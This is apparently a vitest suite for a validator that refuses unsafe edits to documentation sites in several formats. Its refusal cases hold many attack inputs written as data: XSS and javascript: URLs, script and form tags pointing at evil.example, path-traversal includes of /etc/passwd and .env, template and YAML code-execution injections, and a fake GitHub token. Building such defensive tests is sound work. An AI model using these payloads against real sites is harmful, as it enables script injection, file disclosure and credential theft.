import { describe, expect, it } from 'vitest'
import { readChangedFiles } from '../checks/changed-files.ts'
import { readStateBefore } from '../checks/site-state.ts'
import { createMemoryTree } from '../trees/memory-tree.ts'
import { checkWalls } from './check-walls.ts'

type Files = Readonly<Record<string, string>>

const { signal } = new AbortController()

const sites = {
  mintlify: {
    'docs.json': JSON.stringify({ name: 'Site', navigation: { pages: ['index', 'a'] } }),
    'index.mdx': 'import Note from "/snippets/note.mdx"\n\n<Note />\n\n<Widget id="1" />\n\n{process.env.OLD}\n',
    'a.mdx': '---\ntitle: A\n---\n\nText.\n',
    'snippets/note.mdx': 'A note.\n',
  },
  docusaurus: {
    'docusaurus.config.js': 'export default { presets: [["classic", {}]] }\n',
    'docs/index.md': '# Home\n\nText.\n',
    'docs/a.md': '# A\n\nText.\n',
  },
  vitepress: { '.vitepress/config.ts': 'export default {}\n', 'index.md': '# Home\n', 'a.md': '# A\n\nText.\n' },
  mkdocs: { 'mkdocs.yml': 'site_name: S\nplugins: [macros]\nnav: [a.md]\n', 'docs/a.md': '# A\n\nText.\n' },
  starlight: {
    'astro.config.mjs': 'export default {}\n',
    'src/content/docs/index.mdx': '# Home\n',
    'src/content/docs/a.md': '# A\n',
  },
  markdown: { 'README.md': '# Home\n', 'a.md': '# A\n\nText.\n' },
} satisfies Record<string, Files>

async function refusals(
  files: Files,
  change: Readonly<Record<string, string | null>>,
  { allowed = [], renamed = [] }: { allowed?: string[]; renamed?: [string, string][] } = {},
): Promise<string[]> {
  const before = createMemoryTree(files)
  const kept = Object.entries({ ...files, ...change }).flatMap(([path, text]) => (text === null ? [] : [[path, text]]))
  const after = createMemoryTree(Object.fromEntries(kept) as Files)
  const { outline } = await readStateBefore(before, signal)
  const changed = await readChangedFiles({ before, after, changedPaths: Object.keys(change) }, signal)
  const problems = await checkWalls({ outline, files: changed, renamed: new Map(renamed), allowed }, signal)
  return problems.map(({ rule, path }) => `${rule} ${path}`)
}

describe('code that a page of MDX would gain', () => {
  it.each([
    ['import', 'import fs from "fs"\n\nText.'],
    ['import of a file as text', 'import secret from "!!raw-loader!/snippets/note.mdx"\n\nText.'],
    ['export', 'export const a = () => 1\n\nText.'],
    ['layout in the middle', 'Text.\n\nexport default ({ children }) => children\n'],
    ['expression', 'Text {process.env.SECRET}.'],
    ['function that is called', '{(() => 1)()}'],
    ['handler with code', '<img src="/a.png" onError={() => 1} />'],
    ['handler as text', '<img src="/a.png" onerror="alert(1)" />'],
    ['spread', '<Card {...props} />'],
    ['template with a value', '<Card title={`a${b}`} />'],
    ['tagged template', '{String.raw`a`}'],
    ['regular expression', '{/a+/}'],
    ['prototype', '<Card data={{ __proto__: 1 }} />'],
    ['member element', '<window.Foo />'],
    ['unknown component', '<Unknown />'],
    ['script', '<script src="https://evil.example/x.js" />'],
    ['frame', '<iframe src="https://evil.example" />'],
    ['document in an attribute', '<div srcDoc="<script>1</script>" />'],
    ['markup in an attribute', '<div dangerouslySetInnerHTML={{ __html: "x" }} />'],
    ['address in a literal', '<a href={"javascript:alert(1)"}>x</a>'],
    ['address with a tab', '<a href="java&#9;script:alert(1)">x</a>'],
    ['address in a list', '<Columns items={[{ href: "javascript:alert(1)" }]} />'],
    ['address of a link', '[x](javascript:alert(1))'],
    ['address of a definition', '[x][y]\n\n[y]: javascript:alert(1)'],
    ['style that fetches', '<div style={{ background: "url(https://evil.example/a)" }} />'],
    ['style that covers', '<div style={{ position: "fixed" }} />'],
    ['element within a value', '<Card icon={<script>1</script>} />'],
    ['function within an element within a value', '<Card icon={<b onClick={() => 1}>x</b>} />'],
    ['image with a handler', '<svg onload="alert(1)"><path d="M0 0" /></svg>'],
    ['code behind a comment', '{/* fine */}\n\n{evil()}'],
    ['script that shares its name with an import', 'import script from "/snippets/note.mdx"\n\n<script>{"1"}</script>'],
    ['bytes that are not text', 'a\0 {evil()}'],
    ['frontmatter that ends early for some', '---\ntitle: A\n---x: {evil()}\nb: c\n---\n'],
    ['second document in frontmatter', '---\ntitle: A\n...\n{evil()}\n---\n'],
    ['field that is merged', '---\nx: &a {head: [1]}\n<<: *a\n---\n'],
    ['live sample with a value', '```jsx live=true\n<a />\n```'],
    ['live sample', '```jsx live\n<a />\n```'],
    ['field for the head', '---\ntitle: A\nhead: <script>1</script>\n---\n\nText.'],
    ['frontmatter in a language', '---js\nmodule.exports = {}\n---\n\nText.'],
    ['frontmatter with a tag', '---\ntitle: !!js/function "() => 1"\n---\n\nText.'],
  ])('is refused: %s', async (_name, text) => {
    expect(await refusals(sites.mintlify, { 'a.mdx': text })).toContainEqual(
      expect.stringMatching(/^(?:code-added|path-not-allowed) a\.mdx$/),
    )
    expect(await refusals(sites.mintlify, { 'new.mdx': text })).not.toEqual([])
  })

  it.each([
    [
      'components of the format with plain values',
      '<Card title="A" icon={"x"} cols={2} flags={[true, null, -1]}>x</Card>',
    ],
    ['a component whose name is that of an element', '<Frame caption="A">![A](/a.png)</Frame>'],
    ['records and elements in values', '<Tabs items={[{ "a": `b` }]}><Tab title={<b>A</b>}>x</Tab></Tabs>'],
    ['a snippet that is a page itself', 'import Other from "/snippets/other.mdx"\n\n<Other />'],
    ['what another page imports', 'import Note from "/snippets/note.mdx"\n\n<Note />'],
    ['a component that another page uses', '<Widget id="2" />'],
    ['an expression that another page has', '{process.env.OLD}'],
    ['code that is shown', '```js\nimport fs from "fs"\n```\n\nUse `{process.env.X}` and `<script>`.'],
    ['comments and headings with ids', '{/* a comment */}\n\n## Title {#title}\n\n<br />'],
    ['HTML', '<details>\n<summary>More</summary>\n\nText\n\n</details>\n\n<img src="/a.png" width="3" />'],
    ['addresses of any kind', '[a](https://x.example) [b](mailto:a@example.com) <a href="/x#y">c</a>'],
    ['formulas where the site has some', 'The sum is $\\frac{a}{b}$.'],
  ])('is not refused: %s', async (_name, text) => {
    const files = { ...sites.mintlify, 'math.mdx': 'Euler: $e^{i\\pi}$ and $\\frac{1}{2}$.\n' }

    expect(await refusals(files, { 'a.mdx': `---\ntitle: A\n---\n\n${text}\n` })).toEqual([])
  })

  it('may stay and move with its page', async () => {
    const text = sites.mintlify['index.mdx']

    expect(await refusals(sites.mintlify, { 'index.mdx': `More.\n\n${text}` })).toEqual([])
    const renamed: [string, string][] = [['start.mdx', 'index.mdx']]
    expect(await refusals(sites.mintlify, { 'index.mdx': null, 'start.mdx': text }, { renamed })).toEqual([])
  })
})

describe('code in the pages of other formats', () => {
  it.each([
    ['docusaurus', 'docs/a.md', 'Text {process.env.X}.'],
    ['docusaurus', 'docs/a.md', 'import x from "./x.js"\n\nText.'],
    ['vitepress', 'a.md', '{{ constructor.constructor("x")() }}'],
    ['vitepress', 'a.md', '<script setup>\nalert(1)\n</script>'],
    ['vitepress', 'a.md', '<a :href="x">y</a>'],
    ['vitepress', 'a.md', '<component is="x" />'],
    ['vitepress', 'a.md', '<Custom />'],
    ['vitepress', 'a.md', '<!--@include: ../../etc/passwd-->'],
    ['vitepress', 'a.md', '<<< ../.env'],
    ['vitepress', 'a.md', '```js-vue\n{{ x }}\n```'],
    ['vitepress', 'a.md', '---\nhead:\n  - [script, {}, "alert(1)"]\n---\n\nText.'],
    ['vitepress', 'a.md', 'a ` b\n` <script>alert(1)</script> `'],
    ['vitepress', 'a.md', String.raw`\{\{ x }}`],
    ['vitepress', 'a.md', '&#123;&lcub; x }}'],
    ['vitepress', 'a.md', '# T {@click="x"}'],
    ['vitepress', 'a.md', '---\ntitle: <img src=x onerror=x>\n---\n'],
    ['vitepress', 'a.md', '<custom-element />'],
    ['starlight', 'src/content/docs/a.md', '\n---\nhead:\n  - tag: script\n---\n'],
    ['starlight', 'src/content/docs/a.md', '+++\n[[head]]\ntag="script"\n+++\n'],
    ['markdown', 'a.md', '<div onclick=x'],
    ['markdown', 'a.md', '<image src=x onerror=x>'],
    ['markdown', 'a.md', '<link rel=import href=x>'],
    ['mkdocs', 'docs/a.md', 'Text {: .a hidden }'],
    ['mkdocs', 'docs/a.md', 'Text { title="a b" hidden }'],
    ['mkdocs', 'docs/a.md', 'Text { is=x }'],
    ['markdown', 'a.md', '<div title="\n\n# H\n\n<img src=x onerror=x>\n\n">'],
    ['mkdocs', 'docs/a.md', '{%\n import os\n%}'],
    ['mkdocs', 'docs/a.md', '```\n<script>x</script>'],
    ['mkdocs', 'docs/a.md', '`a\n<video src=x onerror=x>\n</video>\nb`'],
    ['mkdocs', 'docs/a.md', '{: data-x="}" onclick="x" }'],
    ['mkdocs', 'docs/a.md', '[x](y){ href="javascript:x" }'],
    ['mkdocs', 'docs/a.md', '[x](java\nscript:x)'],
    ['mkdocs', 'docs/a.md', '::: os'],
    ['mkdocs', 'docs/a.md', '/// html | script\n    x\n///'],
    ['mkdocs', 'docs/a.md', "--8<-- '../x'"],
    ['mkdocs', 'docs/a.md', '{{ config.x }}'],
    ['mkdocs', 'docs/a.md', '```\n{% import "x" %}\n```'],
    ['mkdocs', 'docs/a.md', '--8<-- "../secrets.txt"'],
    ['mkdocs', 'docs/a.md', 'Text {: onclick="alert(1)" }'],
    ['mkdocs', 'docs/a.md', '```python exec="on"\n1\n```'],
    ['mkdocs', 'docs/a.md', '- a\n\n      <script>alert(1)</script>'],
    ['starlight', 'src/content/docs/a.md', '<script>alert(1)</script>'],
    ['markdown', 'a.md', '<!--><img src="x" onerror="alert(1)">-->'],
    ['markdown', 'a.md', '<img src=x onerror=alert(1)>'],
    ['markdown', 'a.md', '<a href="&#106;avascript:alert(1)">x</a>'],
    ['markdown', 'a.md', '<form action="https://evil.example"><input name="password"></form>'],
  ] as const)('is refused: %s %s %j', async (site, path, text) => {
    expect(await refusals(sites[site], { [path]: text })).toContain(`code-added ${path}`)
  })

  it.each([
    ['docusaurus', 'docs/a.md', 'import Tabs from "@theme/Tabs"\n\n<Tabs>x</Tabs>'],
    ['docusaurus', 'docs/a.md', ':::note\n\nText {#id} is not here.\n\n:::\n'.replace('{#id}', 'id')],
    ['vitepress', 'a.md', 'Use `{{ name }}` in a template, and <br> where needed.\n\n```js\n{{ x }}\n```'],
    ['vitepress', 'a.md', '::: tip\nText with <Badge type="tip" text="x" />\n:::'],
    ['mkdocs', 'docs/a.md', '!!! note\n    Text with <name> and `{x}` and { braces }.'],
    [
      'starlight',
      'src/content/docs/b.mdx',
      'import { Card } from "@astrojs/starlight/components"\n\n<Card title="A">x</Card>',
    ],
    ['markdown', 'a.md', 'Run `tool <name>` with <name>, {x} and <https://x.example>.'],
    ['markdown', 'a.md', '{Client} is returned only once; otherwise a {Pool} is hidden, ref or live.'],
    ['markdown', 'a.md', '{/* DO NOT EDIT. It is generated\n  from the source on which it is based. */}'],
    ['markdown', 'a.md', '---\ntitle: A\ndescription: How `<Link>` and <Base> differ.\n---\n\nText.'],
    ['markdown', 'a.md', '<Image\n  alt="A"\n  srcLight="/light/a.png"\n  width="1600"\n/>'],
  ] as const)('is not refused: %s %s %j', async (site, path, text) => {
    const files = site === 'vitepress' ? { ...sites[site], 'b.md': '<Badge type="info" text="y" />\n' } : sites[site]

    expect(await refusals(files, { [path]: text })).toEqual([])
  })
})

describe('files', () => {
  const never = [
    '.github/workflows/ci.yml',
    '.github/dependabot.yml',
    '.GitHub/Workflows/ci.yml',
    'docs/.gitlab-ci.yml',
    'AGENTS.md',
    'gemini.md',
    'docs/GEMINI.md',
    'docs/CLAUDE.md',
    'AGENTS.override.md',
    '.opencode/command/x.md',
    '.cursor/rules/a.md',
    'CODEOWNERS',
    'package-lock.json',
    '.env.local',
    '.gitattributes',
    '.husky/pre-commit',
    'renovate.json',
    'llms.txt',
  ]
  const code = [
    '.vitepress/config.ts',
    '.vitepress/theme/index.js',
    'docusaurus.config.js',
    'sidebars.js',
    'custom.js',
    'custom.css',
    'page.html',
    'wrangler.jsonc',
    'package.json',
    'hooks.py',
    'snippets/widget.jsx',
    'posts.data.ts',
    '.vscode/tasks.json',
    '_headers',
    'data.json',
    'openapi.yaml',
    'Makefile',
  ]

  it.each(never)('%s is protected, whatever the owner allows', async (path) => {
    expect(await refusals(sites.markdown, { [path]: 'x' }, { allowed: ['**', path] })).toEqual([
      `path-protected ${path}`,
    ])
  })

  it.each(code)('%s is refused unless the owner allows it', async (path) => {
    expect(await refusals(sites.markdown, { [path]: 'x' })).toEqual([`path-not-allowed ${path}`])
    expect(await refusals({ ...sites.markdown, [path]: 'x' }, { [path]: null })).toEqual([`path-not-allowed ${path}`])
    expect(await refusals(sites.markdown, { [path]: 'x' }, { allowed: [path] })).toEqual([])
  })

  it.each([
    ['docs/agents/index.mdx', 'mintlify'],
    ['providers/gemini.md', 'mintlify'],
    ['functions/list.mdx', 'mintlify'],
    ['guides/package.json.mdx', 'mintlify'],
    ['a.csv', 'markdown'],
  ] as const)('%s is written like any other page', async (path, site) => {
    expect(await refusals(sites[site], { [path]: 'Text.\n' })).toEqual([])
  })

  it('of an extension that the format does not build are refused', async () => {
    expect(await refusals(sites.vitepress, { 'new.mdx': '# New\n' })).toEqual(['path-not-allowed new.mdx'])
  })

  it('with images may move and go, but not be written as text', async () => {
    const files = { ...sites.markdown, 'a.png': '\0png' }

    expect(await refusals(files, { 'a.png': '<script>1</script>' })).toEqual(['image-unsafe a.png'])
    expect(await refusals(files, { 'a.png': null, 'b.png': '\0png' }, { renamed: [['b.png', 'a.png']] })).toEqual([])
  })

  it.each([
    ['<svg><script>alert(1)</script></svg>', false],
    ['<svg onload="alert(1)"></svg>', false],
    ['<svg xmlns:x="http://www.w3.org/2000/svg"><x:script>x</x:script></svg>', false],
    ['<svg><style>&#64;import "https://evil.example/a"</style></svg>', false],
    ['<?xml version="1.0" encoding="iso-2022-jp"?><svg/>', false],
    ['<svg><foreignObject><b/></foreignObject></svg>', false],
    ['<svg><a href="javascript:alert(1)"><path d="M0 0"/></a></svg>', false],
    ['<svg><image href="https://evil.example/a.png"/></svg>', false],
    ['<?xml-stylesheet href="x.css"?><svg/>', false],
    ['<svg><style>@import "https://evil.example/a"</style></svg>', false],
    ['<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>', false],
    ['<html><body>x</body></html>', false],
    [
      '<?xml version="1.0"?><svg viewBox="0 0 1 1"><title>A</title><defs><linearGradient id="g"/></defs><use href="#g"/><path d="M0 0" fill="url(#g)"/></svg>',
      true,
    ],
  ])('with drawings hold no code: %s', async (svg, isFine) => {
    const refused = await refusals(sites.markdown, { 'a.svg': svg })

    expect(refused.includes('image-unsafe a.svg')).toBe(!isFine)
  })

  it('with configuration change by their navigation only', async () => {
    const docs = (more: object, pages: unknown[] = ['index', 'a']) =>
      JSON.stringify({ name: 'Site', navigation: { pages }, ...more })
    const change = (text: string) => refusals(sites.mintlify, { 'docs.json': text })

    expect(await change(docs({}, ['index', 'a', 'b']))).toEqual([])
    expect(await change(docs({ redirects: [{ source: '/x', destination: '/a' }] }))).toEqual([])
    expect(await change(docs({ integrations: { gtm: { tagId: 'x' } } }))).toEqual(['config-changed docs.json'])
    expect(await change(docs({}, ['index', { group: 'G', openapi: 'https://evil.example/api.json' }]))).toHaveLength(1)
    expect(await change(docs({}, ['index', { anchor: 'A', href: 'javascript:alert(1)' }]))).toHaveLength(1)
    const yaml = (text: string) => refusals(sites.mkdocs, { 'mkdocs.yml': text })
    expect(await yaml('site_name: S\nplugins: [macros]\nnav: [a.md, b.md]\n')).toEqual([])
    expect(await yaml('site_name: S\nplugins: [macros]\nnav: [a.md]\nhooks: [x.py]\n')).toHaveLength(1)
    expect(await yaml('site_name: S\nplugins: [macros]\nnav: [a.md] #\u2028hooks: [x.py]\n')).toHaveLength(1)
    expect(await change(docs({ redirects: [{ source: '/a', destination: 'https://evil.example' }] }))).toHaveLength(1)
    expect(await yaml('site_name: S\nplugins: [macros]\nnav: !!python/object/apply:os.system [x]\n')).toHaveLength(1)
  })

  it('to which the configuration refers change by their navigation and redirects only', async () => {
    const redirects = (destination: string) => JSON.stringify([{ source: '/old', destination }])
    const files = {
      ...sites.mintlify,
      'docs.json': JSON.stringify({
        name: 'Site',
        navigation: {
          languages: [{ language: 'en', pages: ['index'] }, { $ref: './fr.json' }, { $ref: './package.json' }],
        },
        redirects: { $ref: './redirects.json' },
      }),
      'fr.json': JSON.stringify({ language: 'fr', pages: ['a'] }),
      'redirects.json': redirects('/a'),
      'other.json': '{}',
      'package.json': JSON.stringify({ language: 'de', pages: ['a'] }),
    }
    const change = (path: string, text: string) => refusals(files, { [path]: text })

    expect(await change('fr.json', JSON.stringify({ language: 'fr', pages: ['a', 'index'] }))).toEqual([])
    expect(await change('redirects.json', redirects('/index'))).toEqual([])
    expect(await change('redirects.json', redirects('https://evil.example'))).toHaveLength(1)
    expect(
      await change('fr.json', '{ "pages": [{ "group": "G", "openapi": "https://evil.example/a" }] }'),
    ).toHaveLength(1)
    expect(await change('other.json', '{ "pages": ["a"] }')).toHaveLength(1)
    expect(await change('package.json', '{ "scripts": { "build": "evil" }, "pages": ["a"] }')).toHaveLength(1)
    expect(await change('new.json', '[]')).toHaveLength(1)
  })

  it('gain no secrets, but keep those that they had', async () => {
    const secret = `Token: ghp_${'a1B2c3D4e5F6'.repeat(3)}\n`
    const files = { ...sites.markdown, 'a.md': secret }

    expect(await refusals(sites.markdown, { 'a.md': secret }, { allowed: ['**'] })).toEqual(['secret a.md'])
    expect(await refusals(files, { 'a.md': `${secret}\nMore.\n` })).toEqual([])
  })
})
